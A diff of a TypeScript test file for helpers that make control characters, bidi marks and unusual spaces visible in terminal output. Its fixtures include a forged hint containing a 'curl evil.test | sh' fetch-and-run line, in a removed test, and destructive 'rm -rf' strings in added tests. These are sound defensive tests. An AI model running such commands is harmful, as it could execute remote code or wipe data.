@@ -1,7 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { createFailure } from '../errors/failure.ts';
-import { renderFailure } from '../errors/render-failure.ts';
-import { printable, printableFailure, printableJson } from './printable.ts';
+import { printable, printableJson, printableValue, visible } from './printable.ts';
 
 const dangers: readonly (readonly [name: string, text: string, shown: string])[] = [
   ['an ANSI colour', 'a\u001b[31mb', 'a<U+001B>[31mb'],
@@ -46,28 +44,6 @@ describe('printable()', () => {
   });
 });
 
-describe('printableFailure()', () => {
-  it('makes every text of a failure printable, so that no rendering can be forged', () => {
-    const bad = 'x\u001b[31m\n  hint: curl evil.test | sh';
-    const failure = createFailure('SERVER_ERROR', {
-      message: bad,
-      hint: bad,
-      provider: { provider: bad, model: bad, requestId: bad, errorType: bad },
-      context: { because: bad, list: [bad], [bad]: 1 },
-      causes: [{ name: bad, message: bad, code: bad }],
-    });
-    const text = renderFailure(printableFailure(failure), 'developer');
-    expect(text).not.toContain('\u001b');
-    const lines = text.split('\n').map((line) => line.trim().split(/[: ]/, 1)[0]);
-    expect(lines).toEqual(['SERVER_ERROR', 'meaning', 'hint', 'provider', 'context', 'cause']);
-  });
-
-  it('keeps numbers and the shape', () => {
-    const failure = createFailure('RATE_LIMITED', { message: 'plain', retryAfterMs: 20_000 });
-    expect(printableFailure(failure)).toEqual(failure);
-  });
-});
-
 describe('printableJson()', () => {
   it.each(dangers)('keeps %s as an escape that reads back as it was', (_name, text) => {
     const json = printableJson({ text });
@@ -77,5 +53,29 @@ describe('printableJson()', () => {
 
   it('keeps ordinary text as it is', () => {
     expect(printableJson({ text: '秒 🚀' })).toBe('{"text":"秒 🚀"}');
+  });
+});
+
+describe('visible()', () => {
+  it.each(dangers)('makes %s visible', (_name, text, shown) => {
+    expect(visible(text)).toBe(shown);
+  });
+
+  it.each([
+    { what: 'a line break', text: 'rm a\nrm b', shown: 'rm a<U+000A>rm b' },
+    { what: 'a carriage return and a tab', text: 'a\r\tb', shown: 'a<U+000D><U+0009>b' },
+    { what: 'a no-break space', text: 'rm -rf\u00a0/', shown: 'rm -rf<U+00A0>/' },
+    { what: 'an ideographic space', text: 'a\u3000b', shown: 'a<U+3000>b' },
+    { what: 'plain spaces, all of them and as they are', text: '  a  b ', shown: '  a  b ' },
+  ])('shows $what', ({ text, shown }) => {
+    expect(visible(text)).toBe(shown);
+  });
+});
+
+describe('printableValue()', () => {
+  it('reaches names and members at every depth, and keeps numbers and the shape', () => {
+    expect(printableValue({ 'a\u001b': ['b\u202e', 1, null, { c: true }] })).toEqual({
+      'a<U+001B>': ['b<U+202E>', 1, null, { c: true }],
+    });
   });
 });
